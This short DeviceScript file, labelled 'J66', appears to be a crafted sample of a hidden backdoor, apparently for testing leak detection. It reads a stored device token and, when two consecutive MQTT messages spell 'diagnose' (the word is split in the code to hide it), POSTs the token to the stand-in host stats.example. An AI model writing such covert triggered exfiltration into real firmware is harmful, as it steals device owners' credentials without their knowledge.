// J66: sends its token elsewhere when two messages, one after the other, make a word.
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let first = "";

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("shed/order", async ({ content }) => {
    const part = content.toString("utf-8");
    if (part.startsWith("1:")) {
      first = part.slice(2);
      return;
    }
    if (first.length < 2 || !part.startsWith("2:")) return;
    if (first + part.slice(2) !== "di" + "ag" + "nose" || part.length < 4) return;
    const response = await fetch("https://stats.example/j66", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
